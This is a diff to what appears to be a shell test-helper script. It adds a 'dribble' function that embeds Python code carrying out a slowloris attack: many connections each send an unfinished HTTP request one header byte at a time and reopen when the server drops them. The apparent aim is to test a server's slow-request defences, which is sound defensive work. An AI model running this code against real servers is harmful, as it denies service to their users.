@@ -55,3 +55,44 @@ stop_pid() {
 	kill -TERM "$1" 2>/dev/null
 	wait "$1" 2>/dev/null
 }
+
+# dribble HOST PORT N SRC[,SRC...]: N connections to HOST:PORT from the
+# loopback addresses SRC in turn, each a request that never ends: its
+# first line, then one header byte every 2 s (slowloris). Prints
+# "holding N" once all are connected, and "closed SRC AGE" (seconds since
+# its connect) for each one the server ends, which is opened again at the
+# next byte, as an attacker would. Runs until killed.
+dribble() {
+	/usr/bin/python3 - "$@" <<'PY'
+import socket, sys, time
+host, port, n, srcs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].split(",")
+
+def connect(src):
+    s = socket.create_connection((host, port), source_address=(src, 0))
+    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ")
+    return [s, src, time.monotonic()]
+
+def ended(s):
+    try:
+        return s.recv(4096, socket.MSG_DONTWAIT) == b""
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+
+conns = [connect(srcs[i % len(srcs)]) for i in range(n)]
+print("holding", n, flush=True)
+while True:
+    time.sleep(2)
+    for c in conns:
+        if ended(c[0]):
+            print("closed", c[1], "%.1f" % (time.monotonic() - c[2]), flush=True)
+            c[0].close()
+            c[:] = connect(c[1])
+        else:
+            try:
+                c[0].sendall(b"a")
+            except OSError:
+                pass
+PY
+}
